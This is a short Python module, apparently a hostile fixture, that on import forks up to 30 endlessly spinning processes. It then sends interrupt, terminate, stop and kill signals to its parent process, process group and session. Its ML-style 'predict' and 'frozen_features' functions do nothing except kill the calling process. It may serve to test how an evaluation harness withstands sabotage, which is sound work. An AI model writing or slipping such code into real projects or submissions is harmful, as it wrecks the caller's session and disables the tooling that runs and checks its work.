"""Forks, and kills whoever asked. Stops after a few, in case nobody else stops it."""

import os
import signal

for _ in range(30):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError as error:
        print("no fork:", type(error).__name__)
        break

PARENTS = [os.getppid()]
for ask in (os.getpgid, os.getsid):
    try:
        PARENTS.append(ask(0))
    except OSError as error:
        print("no answer:", type(error).__name__)
for pid in PARENTS:
    if pid > 1 and pid != os.getpid():
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError as error:
                print("no kill:", type(error).__name__)


def predict(model, x):
    os.kill(os.getppid() if os.getppid() > 1 else os.getpid(), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)


def frozen_features(backbone, x):
    return predict(backbone, x)
